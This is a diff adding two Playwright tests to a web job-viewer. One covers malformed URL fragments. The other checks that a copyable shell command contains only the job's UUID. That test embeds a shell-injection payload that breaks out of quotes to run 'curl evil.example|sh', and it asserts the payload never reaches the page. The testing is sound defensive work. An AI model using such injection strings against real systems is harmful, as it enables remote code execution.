@@ -196,6 +196,22 @@ def test_search(opened: Open, put: Put) -> None:
     assert page.url.endswith(f"/#/jobs/{job_uuid('nightly report')}")
 
 
+@pytest.mark.parametrize("fragment", ["/jobs/%", "key=%", "/jobs/%E0%A4%A"])
+def test_malformed_address(page: Page, service: Service, put: Put, fragment: str) -> None:
+    """An address that is malformed does not leave the page blank."""
+    put(JOB, name="render")
+    page.goto(f"{service.url}/#{fragment}")
+    expect(page.get_by_role("dialog")).to_be_visible()
+
+
+def test_command_to_copy(opened: Open, service: Service) -> None:
+    """The command has the UUID of the job, and never text of the address."""
+    page = opened("/jobs/x'%3Bcurl%20evil.example|sh%3Becho%20'")
+    uuid = job_uuid("x';curl evil.example|sh;echo '")
+    expect(page.locator("pre").first).to_contain_text(f"'{service.url}/api/jobs/{uuid}'")
+    assert "evil" not in page.locator("main").inner_text()
+
+
 def test_unknown_job(opened: Open) -> None:
     """The page says why a job is unknown, and shows the job when it begins."""
     page = opened(f"/jobs/{JOB}")
